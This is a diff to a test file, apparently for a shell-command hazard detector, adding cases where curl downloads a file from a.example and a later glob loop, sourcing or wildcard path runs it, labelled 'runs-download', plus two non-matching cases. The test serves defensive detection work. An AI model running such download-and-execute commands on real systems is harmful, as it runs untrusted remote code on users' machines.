@@ -36,6 +36,14 @@ expectHazards([
     'adds-program elevates runs-download',
   ],
   ['install -m 755 <(curl -s https://a.example) /usr/local/bin/y && y', 'adds-program runs-download'],
+  // A pattern stands for what was fetched to where it looks.
+  ['curl -o hooks/a.sh https://a.example; for f in hooks/*.sh; do bash "$f"; done', 'runs-download'],
+  ['curl -o hooks/a.sh https://a.example; for f in ./hooks/*; do "$f"; done', 'runs-download'],
+  ['cd jobs; curl -o a.py https://a.example; for f in *.py; do python3 $f; done', 'runs-download'],
+  ['curl -o hooks/a.sh https://a.example; . hooks/*.sh', 'runs-download'],
+  ['curl -o /tmp/x/y/a https://a.example; sh /tmp/*/y/a', 'runs-download'],
+  ['curl -o data/a.csv https://a.example; for f in hooks/*.sh; do bash "$f"; done', ''],
+  ['curl -o hooks/old/a.sh https://a.example; for f in hooks/*.sh; do bash "$f"; done', ''],
   // What one command or shell leaves to another.
   ["sh -c 'curl -o /tmp/x https://a.example'; sh /tmp/x", 'runs-download'],
   ['curl -o a https://a.example; ln -s a b; sh b', 'runs-download'],
